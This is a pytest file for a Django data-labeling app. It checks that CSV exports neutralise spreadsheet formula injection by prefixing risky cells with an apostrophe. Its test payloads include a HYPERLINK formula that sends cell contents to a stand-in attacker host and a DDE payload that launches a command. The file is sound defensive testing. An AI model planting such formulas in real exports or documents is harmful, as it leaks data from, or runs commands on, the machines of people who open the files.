"""Buyers' CSV exports can't carry a formula into a spreadsheet (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.utils import timezone

from accounts.models import User
from config.csv_safety import csv_cell
from labeling.models import Item, Project
from labeling.services import item_create_text
from tests.conftest import give_grant

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
]


def test_contributed_text_that_starts_a_formula_is_exported_as_text(
    text_project: Project, buyer_api: Any, buyer: User
) -> None:
    give_grant(text_project, buyer)
    for text in [*PAYLOADS, "plain text", "a = b"]:
        item = item_create_text(project=text_project, contributor=None, text=f"{text}")
        Item.objects.filter(pk=item.pk).update(
            status=Item.Status.ACCEPTED,
            decided_label="positive",
            confidence=0.99,
            decided_at=timezone.now(),
        )
    response = buyer_api.get(f"/api/v1/datasets/{text_project.pk}/export", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    texts = [row["text"] for row in rows]
    # Stored texts are stripped of surrounding whitespace, so the tab/CR payloads start with "=".
    assert texts == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'=1+1",
        "'=2+2",
        "plain text",
        "a = b",
    ]
    assert all(row["confidence"] == "0.99" for row in rows)  # numbers stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_trigger_is_neutralised(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


def test_numbers_and_empty_cells_are_written_as_they_are() -> None:
    assert csv_cell(-0.5) == -0.5
    assert csv_cell(None) == ""
    assert csv_cell("label") == "label"
